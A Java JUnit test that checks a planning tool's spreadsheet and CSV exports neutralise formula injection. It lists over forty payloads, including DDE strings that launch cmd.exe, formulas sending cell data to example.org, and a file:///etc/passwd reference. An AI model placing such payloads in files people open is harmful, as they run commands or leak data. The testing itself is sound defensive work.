package org.hubplan.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.hubplan.exchange.account.ImportAccount;
import org.hubplan.exchange.cells.Cell;
import org.hubplan.exchange.cells.Progress;
import org.hubplan.exchange.cells.Sheet;
import org.hubplan.exchange.cells.Workbook;
import org.hubplan.exchange.export.PlanExport;
import org.hubplan.exchange.headings.Words;
import org.hubplan.model.BusinessGroup;
import org.hubplan.model.BusinessGroups;
import org.hubplan.model.Command;
import org.hubplan.model.FinancialYear;
import org.hubplan.model.Grade;
import org.hubplan.model.Hub;
import org.hubplan.model.HubCode;
import org.hubplan.model.HubKind;
import org.hubplan.model.Plan;
import org.hubplan.model.PlanSettings;
import org.hubplan.model.Post;
import org.hubplan.model.PostId;
import org.hubplan.model.RateCard;
import org.hubplan.model.RateCard.Rate;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Texts that a spreadsheet program would carry out as formulas, in every place a text can stand.
class InjectionTest {
    static final List<String> PAYLOADS = List.of(
            "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\t+1", "\r-1",
            "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")", "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
            "=WEBSERVICE(\"http://example.org/\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
            "=IMAGE(\"http://example.org/a.png\")", "'=1+1", "''=1+1", "\"=1+1\"", "\",=1+1", "\n\"=1+1", ";=1+1", ",=1+1", "|=1+1",
            "=\"a\"&\"b\"", "=A1", "=[other.xlsx]Sheet1!A1", "='file:///etc/passwd'#$Sheet1.A1", "of:=1+1", "=1+1;=2+2",
            "+44 20 7230 1212", "-5", "-", "@", "=", "\uFEFF=1+1", "\u00A0=1+1", "\uFF1D1+1", "_x003D_1+1", "<f>1+1</f>");

    @TempDir
    Path folder;

    @Test
    void there_are_forty_at_least() {
        assertThat(PAYLOADS).hasSizeGreaterThanOrEqualTo(40).doesNotHaveDuplicates();
    }

    @ParameterizedTest
    @ValueSource(strings = {"plan.xlsx", "plan.ods", "plan.csv"})
    void none_is_a_formula_in_an_export_and_each_is_read_back_as_it_was(String name) throws IOException {
        Plan plan = plan();
        PlanSettings settings = new PlanSettings("=1+1", "", "-OFFICIAL", Command.MET_INTELLIGENCE, false);

        new PlanExport(plan, settings, "=option", false).write(folder.resolve(name));

        assertNoFormula(folder.resolve(name));
        List<Hub> hubs = name.endsWith(".csv") ? List.of(plan.hub(new HubCode("XX")).orElseThrow()) : List.of();
        Imported imported = Imported.from(Source.of(folder.resolve(name)).with(hubs), Plan.blank());
        Plan back = imported.plan();
        assertThat(imported.account().held()).isEmpty();
        assertThat(texts(back)).containsExactlyElementsOf(texts(plan));
        if (!name.endsWith(".csv")) {
            assertThat(back.hub(new HubCode("XX")).orElseThrow().name()).isEqualTo("=hub()");
            assertThat(back.groups()).isEqualTo(plan.groups());
            assertThat(back.rates()).isEqualTo(plan.rates());
        }
    }

    @Test
    void none_is_a_formula_among_the_held_rows_saved_or_pasted() throws IOException {
        ImportAccount account = OpenedInOfficeTest.held();
        Path saved = folder.resolve("held.csv");
        HeldRowsTable.save(account, saved);
        Path pasted = Files.writeString(folder.resolve("pasted.csv"), HeldRowsTable.pasted(account));

        assertNoFormula(saved);
        assertNoFormula(pasted);
    }

    /// Posts, a group and a rate that say nothing else.
    static Plan plan() {
        Plan plan = Plan.blank()
                .with(Hub.open("XX", "=hub()", HubKind.CENTRAL))
                .with(new BusinessGroups(List.of(new BusinessGroup("@group", 100, 100, "=high"))));
        plan = plan.with(plan.rates().with(new RateCard(new FinancialYear(2019), Map.of(Grade.DC, new Rate(1, "=basis")))));
        List<Post> posts = new ArrayList<>();
        for (int n = 0; n < PAYLOADS.size(); n++) {
            String text = PAYLOADS.get(n);
            posts.add(new Post(
                    new PostId(n + 1), "=P" + n, text, Grade.DC, Words.tidy(text) + n, new Command("=" + n), new HubCode("XX"),
                    100, true, text, text, false, List.of(), false));
        }
        return plan.with(posts);
    }

    /// What is said of each post; control characters don't survive a spreadsheet.
    private static List<List<String>> texts(Plan plan) {
        return plan.posts()
                .sorted(Comparator.comparing(Post::number))
                .map(post -> List.of(
                        post.number(), Words.tidy(post.title()), post.function(), post.owner().name(), Words.tidy(post.shift()),
                        Words.tidy(post.building())))
                .toList();
    }

    private static void assertNoFormula(Path file) throws IOException {
        parts(file).forEach((part, text) -> assertThat(text)
                .as(part)
                .doesNotContain("<f>")
                .doesNotContain("<f ")
                .doesNotContain("table:formula"));
        try (Workbook book = Workbook.open(file)) {
            for (Sheet sheet : book.sheets()) {
                book.read(sheet, row -> row.cells().forEach(cell -> {
                    assertThat(cell).isNotInstanceOfAny(Cell.NoValue.class, Cell.Error.class);
                    if (cell instanceof Cell.Text text && !text.text().isEmpty()) {
                        assertThat("=+-@\t\r".indexOf(text.text().charAt(0))).as(text.text()).isNegative();
                    }
                }), Progress.NONE);
            }
        }
    }

    private static Map<String, String> parts(Path file) throws IOException {
        Map<String, String> parts = new LinkedHashMap<>();
        if (!file.toString().endsWith(".csv")) {
            try (ZipFile zip = new ZipFile(file.toFile())) {
                for (ZipEntry entry : zip.stream().toList()) {
                    try (InputStream in = zip.getInputStream(entry)) {
                        parts.put(entry.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
                    }
                }
            }
        }
        return parts;
    }
}
